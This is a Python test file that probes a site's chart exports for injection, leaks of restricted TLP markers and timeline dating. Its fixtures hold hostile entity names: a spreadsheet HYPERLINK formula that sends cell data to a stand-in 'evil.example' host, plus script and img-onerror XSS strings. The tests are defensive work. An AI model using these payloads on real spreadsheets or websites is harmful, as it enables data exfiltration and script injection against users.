"""An attack run on the site's charts: each test a finding (failing before its fix) or a probe that held."""

from __future__ import annotations

import csv
import io
import json

import pytest

from graph import load_dataset, load_ontology
from graph.html.charts import centrality, status_timeline
from graph.query.filters import Filters
from graph.query.projection import to_networkx

from ..conftest import FIXTURES, ROOT

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ENTITIES = [("org-a", "Evil \"'<img src=x onerror=alert(1)>]]><script>alert(2)</script>&amp;"), ("org-b", FORMULA),
            ("org-c", "+SUM(1,2)"), ("org-d", "L" * 3000), ("org-e", "אבג مرحبا"), ("org-f", "@cmd")]


def _case(tmp_path, claims: list[str]) -> tuple:
    lines = ["sources:", "  - {id: s1, title: Report, kind: Report, reliability: B}", "entities:"]
    lines += [f"  - {{id: {i}, type: Organisation, name: {json.dumps(n)}}}" for i, n in ENTITIES]
    lines += ["claims:", *claims]
    (tmp_path / "case").mkdir()
    (tmp_path / "case" / "case.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    ds = load_dataset([tmp_path / "case"], load_ontology(ROOT / "ontology"))
    G = to_networkx(ds)
    return ds, G, Filters().compile(G, ds.ontology)


def _claim(cid: str, a: str, b: str, extra: str = "") -> str:
    return (f"  - {{id: {cid}, subject: {a}, predicate: associatedWith, object: {b}{extra},"
            " citations: [{source: s1, quote: q}]}")


CHAIN = [_claim("c1", "org-a", "org-b", ", start: 2015"), _claim("c2", "org-b", "org-c", ", start: 2016"),
         _claim("c3", "org-c", "org-d", ", start: 2017"), _claim("c4", "org-d", "org-e"),
         _claim("c5", "org-e", "org-f", ", end: 2019")]


def test_a_chart_table_holds_no_spreadsheet_formula(tmp_path):
    """The centrality CSV wrote entity names as they are: "=HYPERLINK(...)" ran as a formula in a spreadsheet."""
    ds, G, cf = _case(tmp_path, CHAIN)
    for chart in (centrality(ds, G, cf), status_timeline(ds, G, cf)):
        rows = list(csv.reader(io.StringIO(chart.csv())))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], chart.name
        if chart.name == "centrality":
            assert "'" + FORMULA in cells and "'@cmd" in cells  # kept, made inert as the CSV export does


def test_an_undated_claim_is_at_no_year_and_a_dated_one_is_not_undated(tmp_path):
    ds, G, cf = _case(tmp_path, CHAIN)
    chart = status_timeline(ds, G, cf)
    rows = [tuple(r) for r in csv.reader(io.StringIO(chart.csv()))][1:]
    undated = sum(int(n) for y, _, n in rows if y == "undated")
    assert undated == 1, rows  # c4 only
    # c5 has an end alone, which stands for its own period (graph.query.projection.valid_days): it is dated
    assert sum(int(n) for y, _, n in rows if y.isdigit()) == 4 and ("2019", "reported", "1") in rows, rows


@pytest.mark.slow
def test_green_charts_hold_nothing_above_green(cli, tmp_path):
    out = tmp_path / "site"
    code, _, err = cli("site", "--data", str(FIXTURES / "levels"), "--no-store", "--max-tlp", "green", "-o", str(out))
    assert code == 0, err
    for f in sorted((out / "charts").iterdir()) + [out / "charts.html"]:
        text = f.read_text(encoding="utf-8")
        for marker in ("AMBER-marker", "STRICT-marker", "RED-marker", "ent-lvl-amber", "ent-lvl-strict", "ent-lvl-red"):
            assert marker not in text, (f.name, marker)


@pytest.mark.slow
def test_hostile_names_stay_text_in_the_svg(cli, tmp_path):
    _case(tmp_path, CHAIN)  # writes tmp_path/case
    out = tmp_path / "site"
    code, _, err = cli("site", "--data", str(tmp_path / "case"), "--no-store", "-o", str(out))
    assert code == 0, err
    for f in sorted((out / "charts").glob("*.svg")) + [out / "charts.html"]:
        text = f.read_text(encoding="utf-8")
        assert "<img" not in text and "<script" not in text, f.name
